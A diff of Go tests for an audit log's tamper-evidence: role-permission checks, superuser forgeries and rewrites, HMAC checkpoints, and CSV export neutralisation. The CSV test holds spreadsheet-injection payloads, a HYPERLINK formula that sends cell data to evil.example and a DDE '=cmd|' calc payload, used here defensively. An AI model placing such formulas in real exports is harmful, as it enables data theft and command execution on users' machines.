@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"net/http"
 	"runtime"
 	"runtime/debug"
@@ -15,6 +16,7 @@ import (
 	"time"
 
 	"github.com/jackc/pgx/v5"
+	"github.com/jackc/pgx/v5/pgxpool"
 
 	"mipo/app"
 	"mipo/app/apptest"
@@ -112,16 +114,38 @@ func TestKeysetPagination(t *testing.T) {
 	}
 }
 
+// mipo's own database role may add to the append-only tables and read them, nothing more: it
+// does not own them, is no member of their owner, and cannot switch their triggers off, grant
+// itself more, or rewrite, empty or drop them.
 func TestTheApplicationRoleCannotRewriteTheLog(t *testing.T) {
 	srv, _ := start(t)
 	ctx := context.Background()
-	for _, stmt := range []string{
-		`UPDATE audit_log SET action = 'nothing.happened'`,
-		`DELETE FROM audit_log`,
-		`TRUNCATE audit_log`,
-	} {
-		if _, err := srv.DBs.Config.Exec(ctx, stmt); err == nil {
-			t.Fatalf("mipo's own database role ran %q", stmt)
+	if apptest.SharedServer() {
+		t.Skip("MIPO_TEST_DATABASE_URL runs every role as one superuser")
+	}
+	for table, pool := range map[string]*pgxpool.Pool{"audit_log": srv.DBs.Config, "config_versions": srv.DBs.Config, "audit_checkpoints": srv.DBs.Jobs} {
+		for _, stmt := range []string{
+			`ALTER TABLE ` + table + ` DISABLE TRIGGER USER`,
+			`ALTER TABLE ` + table + ` OWNER TO mipo`,
+			`GRANT UPDATE, DELETE, TRUNCATE ON ` + table + ` TO mipo`,
+			`UPDATE ` + table + ` SET id = id`,
+			`DELETE FROM ` + table,
+			`TRUNCATE ` + table,
+			`DROP TABLE ` + table,
+		} {
+			// GRANT without the grant option is a warning, not an error, in PostgreSQL: what
+			// counts is that nothing was granted.
+			if _, err := pool.Exec(ctx, stmt); err == nil && !strings.HasPrefix(stmt, "GRANT") {
+				t.Errorf("mipo's own database role ran %q", stmt)
+			}
+		}
+		var owns, update, trigger, grantable bool
+		err := pool.QueryRow(ctx, `SELECT pg_has_role(current_user, c.relowner, 'MEMBER'),
+			has_table_privilege(c.oid, 'UPDATE') OR has_table_privilege(c.oid, 'DELETE') OR has_table_privilege(c.oid, 'TRUNCATE'),
+			has_table_privilege(c.oid, 'TRIGGER'), has_table_privilege(c.oid, 'INSERT WITH GRANT OPTION') OR has_table_privilege(c.oid, 'SELECT WITH GRANT OPTION')
+			FROM pg_class c WHERE c.relname = $1`, table).Scan(&owns, &update, &trigger, &grantable)
+		if err != nil || owns || update || trigger || grantable {
+			t.Errorf("%s: mipo owns it %v, may change rows %v, may set triggers %v, may grant %v (%v)", table, owns, update, trigger, grantable, err)
 		}
 	}
 	// Even a superuser is stopped by the trigger while it is enabled.
@@ -132,6 +156,10 @@ func TestTheApplicationRoleCannotRewriteTheLog(t *testing.T) {
 	defer su.Close(ctx)
 	if _, err := su.Exec(ctx, `DELETE FROM audit_log`); err == nil || !strings.Contains(err.Error(), "append-only") {
 		t.Fatalf("the trigger did not refuse a superuser's DELETE: %v", err)
+	}
+	var n int
+	if su.QueryRow(ctx, `SELECT count(*) FROM audit_log`).Scan(&n); n == 0 {
+		t.Fatal("the audit log was emptied")
 	}
 }
 
@@ -168,13 +196,13 @@ func TestVerifyNamesTheFirstAlteredRecord(t *testing.T) {
 	var last int64
 	su.QueryRow(ctx, `SELECT max(id) FROM audit_log`).Scan(&last)
 	su.Exec(ctx, `DELETE FROM audit_log WHERE id = $1`, victim)
-	v, err = audit.Verify(ctx, srv.DBs.Config)
+	v, err = audit.Verify(ctx, chainOf(srv))
 	if err != nil || v.OK || *v.FirstBadID <= victim || *v.FirstBadID > last {
 		t.Fatalf("a removed record must break the chain after it: %+v %v", v, err)
 	}
 	// `mipo audit verify` says the same and fails.
 	cmd := app.NewCLI()
-	cmd.SetArgs([]string{"audit", "verify", "--data-dir", t.TempDir(), "--config-dsn", srv.DBs.DSN("config"),
+	cmd.SetArgs([]string{"audit", "verify", "--data-dir", srv.App.Config.DataDir, "--config-dsn", srv.DBs.DSN("config"),
 		"--results-dsn", srv.DBs.DSN("results"), "--jobs-dsn", srv.DBs.DSN("jobs")})
 	cmd.SetOut(&strings.Builder{})
 	if err := cmd.Execute(); err == nil || !strings.Contains(err.Error(), "broken at record") {
@@ -217,7 +245,7 @@ func TestConcurrentWritersKeepTheChainIntact(t *testing.T) {
 		}()
 	}
 	wg.Wait()
-	v, err := audit.Verify(context.Background(), srv.DBs.Config)
+	v, err := audit.Verify(context.Background(), chainOf(srv))
 	if err != nil || !v.OK {
 		t.Fatalf("concurrent writers broke the chain: %+v %v", v, err)
 	}
@@ -330,7 +358,7 @@ func FuzzQueryFilters(f *testing.F) {
 
 func BenchmarkAuditInsert(b *testing.B) {
 	dbs := apptest.Databases(b)
-	ctx := app.WithPrincipal(context.Background(), app.System("bench"))
+	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("bench")), []byte("0123456789abcdef0123456789abcdef"))
 	before := map[string]any{"name": "a", "scopes": []string{"x:y"}}
 	after := map[string]any{"name": "b", "scopes": []string{"x:y", "z:w"}}
 	b.ReportAllocs()
@@ -342,4 +370,276 @@ func BenchmarkAuditInsert(b *testing.B) {
 	}
 	b.StopTimer()
 	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "records/s")
+}
+
+// Who fails to sign in chooses the username and the User-Agent an auditor later opens in a
+// spreadsheet: a formula there must arrive as text, not run.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	srv, owner := start(t)
+	attacker := apptest.NewClient(t, srv.URL)
+	attacker.Header.Set("User-Agent", `=HYPERLINK("http://evil.example/?"&A1,"open")`)
+	for _, name := range []string{`=cmd|' /C calc'!A0`, "@SUM(1)", "+1+1", "-2+3"} {
+		if r := attacker.Post("/api/v1/auth/login", map[string]string{"username": name, "password": "wrong-password-here"}); r.Status != http.StatusUnauthorized {
+			t.Fatalf("login as %q: %d %s", name, r.Status, r.Body)
+		}
+	}
+	r := owner.Get("/api/v1/audit/export?format=csv&action=session.login")
+	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
+	if err != nil || len(rows) < 5 {
+		t.Fatalf("csv export: %d rows, %v\n%s", len(rows), err, r.Body)
+	}
+	seen := map[string]bool{}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell opens as a formula: %q", cell)
+			}
+			seen[cell] = true
+		}
+	}
+	for _, want := range []string{`'=cmd|' /C calc'!A0`, "'@SUM(1)", "'+1+1", "'-2+3", `'=HYPERLINK("http://evil.example/?"&A1,"open")`} {
+		if !seen[want] {
+			t.Errorf("the export lacks the neutralised cell %q", want)
+		}
+	}
+}
+
+func chainOf(srv *apptest.Server) audit.Chain {
+	return audit.Chain{Config: srv.DBs.Config, Jobs: srv.DBs.Jobs, Key: srv.App.Config.AuditKey}
+}
+
+// superuser connects to the test's config database as a superuser with the triggers off: the
+// strongest attacker short of one holding MIPO_AUDIT_KEY.
+func superuser(t *testing.T, srv *apptest.Server, db string) *pgx.Conn {
+	t.Helper()
+	ctx := context.Background()
+	su, err := pgx.Connect(ctx, apptest.SuperuserDSN(srv.DBs.Names[db]))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { su.Close(ctx) })
+	if _, err := su.Exec(ctx, `SET session_replication_role = replica`); err != nil {
+		t.Fatal(err)
+	}
+	return su
+}
+
+// someRecords writes n role.create records and a checkpoint after them.
+func someRecords(t *testing.T, srv *apptest.Server, owner *apptest.Client, n int) {
+	t.Helper()
+	for i := 0; i < n; i++ {
+		owner.Post("/api/v1/roles", map[string]any{"name": fmt.Sprintf("cp%02d", i), "scopes": []string{}})
+	}
+	if err := audit.Checkpoint(context.Background(), chainOf(srv)); err != nil {
+		t.Fatal(err)
+	}
+	if v, err := audit.Verify(context.Background(), chainOf(srv)); err != nil || !v.OK {
+		t.Fatalf("an untouched log must verify: %+v %v", v, err)
+	}
+}
+
+func TestVerifyCatchesACutTail(t *testing.T) {
+	srv, owner := start(t)
+	someRecords(t, srv, owner, 6)
+	ctx := context.Background()
+	var count int64
+	srv.DBs.Config.QueryRow(ctx, `SELECT count(*) FROM audit_log`).Scan(&count)
+	su := superuser(t, srv, "config")
+	if _, err := su.Exec(ctx, `DELETE FROM audit_log WHERE id IN (SELECT id FROM audit_log ORDER BY id DESC LIMIT 3)`); err != nil {
+		t.Fatal(err)
+	}
+	v, err := audit.Verify(ctx, chainOf(srv))
+	want := fmt.Sprintf("says %d records", count)
+	if err != nil || v.OK || !strings.Contains(v.Reason, want) || !strings.Contains(v.Reason, fmt.Sprintf("the table has %d", count-3)) {
+		t.Fatalf("a cut tail must be named (%q): %+v %v", want, v, err)
+	}
+}
+
+func TestVerifyCatchesARewriteWithoutTheKey(t *testing.T) {
+	srv, owner := start(t)
+	someRecords(t, srv, owner, 6)
+	ctx := context.Background()
+	var victim int64
+	srv.DBs.Config.QueryRow(ctx, `SELECT id FROM audit_log ORDER BY id DESC OFFSET 3 LIMIT 1`).Scan(&victim)
+	su := superuser(t, srv, "config")
+	if _, err := su.Exec(ctx, `UPDATE audit_log SET actor_name = 'someone-else' WHERE id = $1`, victim); err != nil {
+		t.Fatal(err)
+	}
+	// Every hash from the victim on is recomputed, links and all, without the key.
+	if err := audit.Rechain(ctx, su, victim, nil); err != nil {
+		t.Fatal(err)
+	}
+	v, err := audit.Verify(ctx, chainOf(srv))
+	if err != nil || v.OK || v.FirstBadID == nil || *v.FirstBadID != victim {
+		t.Fatalf("a rewrite without the key must be caught at record %d: %+v %v", victim, v, err)
+	}
+	// Even with a guessed key the rewrite is caught at the same record.
+	if err := audit.Rechain(ctx, su, victim, []byte("a-key-that-is-not-mipo-audit-key")); err != nil {
+		t.Fatal(err)
+	}
+	if v, _ := audit.Verify(ctx, chainOf(srv)); v.OK || *v.FirstBadID != victim {
+		t.Fatalf("a rewrite under another key must be caught: %+v", v)
+	}
+}
+
+func TestVerifyCatchesAForgedAppend(t *testing.T) {
+	srv, owner := start(t)
+	someRecords(t, srv, owner, 3)
+	ctx := context.Background()
+	su := superuser(t, srv, "config")
+	var forged int64
+	if err := su.QueryRow(ctx, `INSERT INTO audit_log (id, at, actor_kind, actor_name, action, outcome, prev_hash, hash)
+		SELECT nextval('audit_log_id_seq'), now(), 'user', 'owner', 'session.login', 'success', '', '' RETURNING id`).Scan(&forged); err != nil {
+		t.Fatal(err)
+	}
+	if err := audit.Rechain(ctx, su, forged, nil); err != nil { // a correct unkeyed hash, linked to the head
+		t.Fatal(err)
+	}
+	v, err := audit.Verify(ctx, chainOf(srv))
+	if err != nil || v.OK || v.FirstBadID == nil || *v.FirstBadID != forged {
+		t.Fatalf("a forged append must be named: %+v %v", v, err)
+	}
+}
+
+// Records written before the key existed carry unkeyed hashes. The first checkpoint (written
+// at the first start with the key) anchors them: it is keyed, and it holds their head. Before
+// that anchor they do not verify; after it they do, and an unkeyed record after the anchor is a
+// forgery.
+func TestRecordsFromBeforeTheKeyAreAnchoredByTheFirstCheckpoint(t *testing.T) {
+	dbs := apptest.Databases(t)
+	key := []byte("0123456789abcdef0123456789abcdef")
+	chain := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: key}
+	older := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("older")), nil)
+	for i := 0; i < 3; i++ {
+		if err := audit.RecordNow(older, dbs.ConfigDB(), audit.Entry{Action: "older.write", ResourceType: "thing"}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("newer")), key)
+	if v, _ := audit.Verify(ctx, chain); v.OK {
+		t.Fatalf("unkeyed records no checkpoint vouches for must not verify: %+v", v)
+	}
+	if err := audit.Checkpoint(ctx, chain); err != nil {
+		t.Fatal(err)
+	}
+	if err := audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "newer.write", ResourceType: "thing"}); err != nil {
+		t.Fatal(err)
+	}
+	if v, err := audit.Verify(ctx, chain); err != nil || !v.OK || v.Checked != 4 {
+		t.Fatalf("anchored older records and a keyed one must verify: %+v %v", v, err)
+	}
+	if err := audit.RecordNow(older, dbs.ConfigDB(), audit.Entry{Action: "older.write", ResourceType: "thing"}); err != nil {
+		t.Fatal(err)
+	}
+	if v, _ := audit.Verify(ctx, chain); v.OK {
+		t.Fatalf("an unkeyed record after the anchor must not verify: %+v", v)
+	}
+}
+
+// A process with another MIPO_AUDIT_KEY (a compose service given its own .mipo.env) would write
+// records nobody can verify: it refuses to checkpoint and says why.
+func TestCheckpointUnderAnotherKeyIsRefused(t *testing.T) {
+	dbs := apptest.Databases(t)
+	a := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: []byte("0123456789abcdef0123456789abcdef")}
+	b := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: []byte("fedcba9876543210fedcba9876543210")}
+	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("t")), a.Key)
+	if err := audit.Checkpoint(ctx, a); err != nil {
+		t.Fatal(err)
+	}
+	audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "thing.write", ResourceType: "thing"})
+	if err := audit.Checkpoint(ctx, b); err == nil || !strings.Contains(err.Error(), "MIPO_AUDIT_KEY") {
+		t.Fatalf("a checkpoint under another key: %v", err)
+	}
+	if v, _ := audit.Verify(ctx, b); v.OK || !strings.Contains(v.Reason, "MIPO_AUDIT_KEY") {
+		t.Fatalf("verify under another key must say so: %+v", v)
+	}
+}
+
+// Verify recomputes every record's HMAC and checks each checkpoint on the way.
+func BenchmarkVerify(b *testing.B) {
+	dbs := apptest.Databases(b)
+	key := []byte("0123456789abcdef0123456789abcdef")
+	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("bench")), key)
+	chain := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: key}
+	const records = 2000
+	for i := 0; i < records; i++ {
+		if err := audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "bench.update", ResourceType: "bench", ResourceID: fmt.Sprint(i),
+			Before: map[string]any{"n": i}, After: map[string]any{"n": i + 1}}); err != nil {
+			b.Fatal(err)
+		}
+		if i%200 == 0 {
+			audit.Checkpoint(ctx, chain)
+		}
+	}
+	b.ResetTimer()
+	for b.Loop() {
+		if v, err := audit.Verify(ctx, chain); err != nil || !v.OK || v.Checked != records {
+			b.Fatalf("%+v %v", v, err)
+		}
+	}
+	b.ReportMetric(float64(records*b.N)/b.Elapsed().Seconds(), "records/s")
+}
+
+// A command (`mipo setup`) writes its records under the installation's key, as a server does.
+func TestCommandsWriteKeyedRecords(t *testing.T) {
+	dbs := apptest.Databases(t)
+	dir := t.TempDir()
+	cmd := app.NewCLI()
+	cmd.SetArgs([]string{"setup", "--username", "root", "--password-stdin", "--data-dir", dir,
+		"--config-dsn", dbs.DSN("config"), "--results-dsn", dbs.DSN("results"), "--jobs-dsn", dbs.DSN("jobs")})
+	cmd.SetIn(strings.NewReader("a-long-cli-password\n"))
+	cmd.SetOut(&strings.Builder{})
+	if err := cmd.Execute(); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := app.LoadConfig(map[string]string{"MIPO_DATA_DIR": dir}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	v, err := audit.Verify(context.Background(), audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: cfg.AuditKey})
+	if err != nil || !v.OK || v.Checked == 0 {
+		t.Fatalf("`mipo setup`'s records must verify under the installation's key: %+v %v", v, err)
+	}
+}
+
+// A write is followed by a checkpoint that covers it (soon, not only at the next periodic run),
+// so the window in which a cut tail goes unseen is short.
+func TestAWriteIsFollowedByACheckpoint(t *testing.T) {
+	srv, owner := start(t)
+	owner.Post("/api/v1/roles", map[string]any{"name": "checkpointed", "scopes": []string{}})
+	ctx := context.Background()
+	var count int64
+	srv.DBs.Config.QueryRow(ctx, `SELECT count(*) FROM audit_log`).Scan(&count)
+	apptest.WaitFor(t, 5*time.Second, "a checkpoint covering the new record", func() bool {
+		cp, err := audit.LatestCheckpoint(ctx, srv.DBs.Jobs)
+		return err == nil && cp != nil && cp.Count >= count
+	})
+}
+
+// Whoever forges an unkeyed record and deletes every checkpoint, so that the next start writes
+// a fresh anchor, gains nothing: an anchor vouches only for the unkeyed records before the
+// first keyed one.
+func TestAFreshAnchorDoesNotVouchForAForgery(t *testing.T) {
+	srv, owner := start(t)
+	someRecords(t, srv, owner, 3)
+	ctx := context.Background()
+	su := superuser(t, srv, "config")
+	var forged int64
+	if err := su.QueryRow(ctx, `INSERT INTO audit_log (id, at, actor_kind, actor_name, action, outcome, prev_hash, hash)
+		SELECT nextval('audit_log_id_seq'), now(), 'user', 'owner', 'session.login', 'success', '', '' RETURNING id`).Scan(&forged); err != nil {
+		t.Fatal(err)
+	}
+	if err := audit.Rechain(ctx, su, forged, nil); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := superuser(t, srv, "jobs").Exec(ctx, `DELETE FROM audit_checkpoints`); err != nil {
+		t.Fatal(err)
+	}
+	if err := audit.Checkpoint(ctx, chainOf(srv)); err != nil { // the next start
+		t.Fatal(err)
+	}
+	v, err := audit.Verify(ctx, chainOf(srv))
+	if err != nil || v.OK || v.FirstBadID == nil || *v.FirstBadID != forged {
+		t.Fatalf("the forged record must still be named: %+v %v", v, err)
+	}
 }
